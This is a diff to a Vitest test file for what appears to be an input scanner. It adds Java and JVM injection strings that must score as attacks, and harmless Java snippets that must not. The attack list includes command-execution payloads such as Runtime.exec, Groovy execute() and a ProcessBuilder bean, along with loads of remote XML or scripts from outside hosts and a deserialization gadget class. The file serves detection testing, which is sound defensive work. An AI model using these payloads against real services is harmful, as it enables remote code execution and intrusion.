@@ -3,6 +3,14 @@ import { describe, expect, it } from 'vitest'
 import { familyTotalOf, totalOf } from './scan-score.ts'
 
 const attacks: readonly string[] = [
+  'with(new JavaImporter(java.io)){new File("/srv").list()}',
+  'new FileSystemXmlApplicationContext("http://203.0.113.5/a.xml")',
+  'Jenkins.instance.securityRealm.allUsers',
+  'type=DiagnosticCommand/compilerDirectivesAdd',
+  'ch.qos.logback.classic.jmx.JMXConfigurator/reloadByURL',
+  'solr.VelocityResponseWriter',
+  'com.example.admin.util.RuntimeUtil',
+  '"touch /srv/x".execute()',
   '${x.class.forName("java.lang.Runtime")}',
   '["sh","-c","id"].execute()',
   'Runtime.getRuntime().exec("id")',
@@ -18,9 +26,16 @@ const attacks: readonly string[] = [
   '"cat /x".execute().text',
   'org.apache.commons.collections.functors.InvokerTransformer',
   'jdbc:h2:mem:x;INIT=RUNSCRIPT FROM http://x',
+  '<bean id="a" class="java.lang.ProcessBuilder" init-method="start">',
+  '"whoami".execute()',
+  '(1).TYPE.forName("java.lang.Runtime")',
+  '@ASTTest(value={assert 1})',
+  'Java.type("java.lang.System")',
+  '(.exec (Runtime/getRuntime) "id")',
 ]
 
 const harmless: readonly string[] = [
+  'DocumentBuilderFactory f = DocumentBuilderFactory.newInstance(); f.setFeature(NAME, true);',
   'Class.forName("com.mysql.cj.jdbc.Driver")',
   "org.springframework.beans.factory.BeanCreationException: Error creating bean with name 'x'",
   'java.lang.String',
@@ -32,9 +47,20 @@ const harmless: readonly string[] = [
   '<groupId>org.apache.maven</groupId>',
   'session.request.context',
   '#context menu',
+  'Charset.forName("UTF-8")',
+  'cursor.execute()',
+  '{"type": "java"}',
+  'new URL("https://example.org/x").searchParams.get("a")',
 ]
 
 describe('Java code and expressions', () => {
+  it.each([
+    'at org.apache.catalina.core.StandardWrapperValve.invoke(StandardWrapperValve.java:199)',
+    '<dependency><groupId>org.apache.struts</groupId><artifactId>struts2-core</artifactId></dependency>',
+  ])('of traces and builds are not refused: %s', (value) => {
+    expect(totalOf(value)).toBeLessThan(80)
+  })
+
   it.each(attacks)('are denied: %s', (value) => {
     expect(familyTotalOf('java', value)).toBeGreaterThanOrEqual(80)
   })
